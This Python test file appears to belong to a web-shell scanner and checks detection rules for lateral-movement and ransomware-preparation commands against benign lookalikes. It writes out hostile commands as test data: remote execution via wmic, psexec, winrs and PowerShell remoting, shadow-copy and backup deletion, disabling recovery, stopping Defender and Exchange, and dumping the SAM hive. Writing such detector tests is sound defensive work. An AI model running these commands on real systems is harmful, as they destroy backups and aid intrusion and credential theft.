"""Fixed command lines that reach other machines (EXH-WS-CODE-LATERAL-COMMAND: remote WMI, PsExec
and its clones, PowerShell remoting, winrs, copies to administrative shares) and that prepare a
server for ransomware (EXH-WS-CODE-IMPACT-COMMAND: shadow copies and backups deleted, recovery
turned off, the change journal deleted, Exchange's store or Defender stopped). No client data
reaches any of them. Kept quiet: the same programs doing an administrator's ordinary work."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cmd_page, cs_page, run, vb_page

LATERAL = "EXH-WS-CODE-LATERAL-COMMAND"
IMPACT = "EXH-WS-CODE-IMPACT-COMMAND"


FOUND = [
    ("wmic-node", cmd_page('wmic /node:10.0.0.5 process call create \\"cmd /c whoami\\"'), LATERAL, "/node:10.0.0.5"),
    ("psexec", cmd_page("psexec.exe \\\\\\\\10.0.0.5 -s -d cmd.exe"), LATERAL, "psexec.exe"),
    (
        "invoke-command",
        cs_page(
            "System.Management.Automation.PowerShell.Create()"
            '.AddScript("Invoke-Command -ComputerName DC01 -ScriptBlock { hostname }").Invoke();'
        ),
        LATERAL,
        "-ComputerName DC01",
    ),
    ("winrs", vb_page('Shell("winrs -r:DC01 cmd /c hostname")'), LATERAL, "winrs -r:DC01"),
    (
        "admin-share",
        cmd_page("copy C:\\\\Temp\\\\a.dll \\\\\\\\10.0.0.5\\\\admin$\\\\a.dll"),
        LATERAL,
        "admin$",
    ),
    ("vss", cmd_page("vssadmin delete shadows /all /quiet"), IMPACT, "vssadmin delete shadows"),
    ("wbadmin", cmd_page("wbadmin delete catalog -quiet"), IMPACT, "wbadmin delete catalog"),
    ("bcdedit", cmd_page("bcdedit /set {default} recoveryenabled No"), IMPACT, "recoveryenabled"),
    (
        "shadow-wmi",
        cs_page(
            'System.Diagnostics.Process.Start("powershell.exe", "-c Get-WmiObject Win32_ShadowCopy | '
            'ForEach-Object { $_.Delete() }");'
        ),
        IMPACT,
        "Win32_ShadowCopy",
    ),
    ("usn", cmd_page("fsutil usn deletejournal /d C:"), IMPACT, "deletejournal"),
    ("store-stop", cmd_page("net stop MSExchangeIS /y"), IMPACT, "MSExchangeIS"),
    ("defender-stop", cmd_page("sc stop WinDefend"), IMPACT, "WinDefend"),
    ("taskkill-store", cmd_page("taskkill /f /im MSExchangeTransport.exe"), IMPACT, "taskkill"),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "shown"), FOUND, ids=[f[0] for f in FOUND])
def test_fixed_command_found(name: str, code: str, rule_id: str, shown: str) -> None:
    assert_found(f"{name}.aspx", code, rule_id, ["runs a command that", shown])


LOOKALIKES = [
    ("wmic-local", cmd_page("wmic os get caption")),
    ("vss-list", cmd_page("vssadmin list shadows")),
    ("wbadmin-start", cmd_page("wbadmin start backup -backupTarget:E: -include:C: -quiet")),
    ("iis-restart", cmd_page("net stop w3svc & net start w3svc")),
    ("taskkill-own", cmd_page("taskkill /f /im thumbs.exe")),
    ("unc-share", cmd_page("copy C:\\\\Temp\\\\report.csv \\\\\\\\files\\\\reports\\\\")),
]


@pytest.mark.parametrize(("name", "code"), LOOKALIKES, ids=[x[0] for x in LOOKALIKES])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign(f"{name}.aspx", code)


def test_a_batch_file_the_page_writes_and_starts_is_read() -> None:
    # DearCry's web shells wrote a batch file and ran it: the start itself spells no command.
    code = cs_page(
        'var bat = Server.MapPath("~/App_Data/u.bat");\n'
        'System.IO.File.WriteAllText(bat, "vssadmin delete shadows /all /quiet\\r\\nreg save hklm\\\\sam sam.hiv");\n'
        "System.Diagnostics.Process.Start(bat);"
    )
    found = assert_found(
        "u.aspx", code, IMPACT, ["the script written at line 5: vssadmin delete shadows /all /quiet ; reg save"]
    )
    assert "EXH-WS-CODE-CREDENTIAL-COMMAND" in {c.rule_id for c in found.capabilities}


def test_a_fixed_file_written_beside_a_fixed_tool_stays_quiet() -> None:
    code = cs_page(
        'System.IO.File.WriteAllText(Server.MapPath("~/App_Data/job.ini"), "[job]\\r\\nsize=120");\n'
        'System.Diagnostics.Process.Start(Server.MapPath("~/bin/thumbs.exe"), "-q");'
    )
    assert_benign("job.aspx", code)


def test_written_texts_past_the_bound_are_a_limit_problem_where_a_program_starts() -> None:
    # Fail closed: texts not read as scripts a start may run are said, not dropped.
    writes = "\n".join(f'System.IO.File.WriteAllText("c:\\\\t\\\\{i}.txt", "line {i}");' for i in range(10))
    started = run("w.aspx", cs_page(writes + '\nSystem.Diagnostics.Process.Start("c:\\\\t\\\\go.bat");'))
    assert any(p.kind == "limit" and "read as scripts" in p.message for p in started.problems)
    # a page that starts nothing reads no written text as a script: nothing was left unread
    assert not any(p.kind == "limit" for p in run("w.aspx", cs_page(writes)).problems)
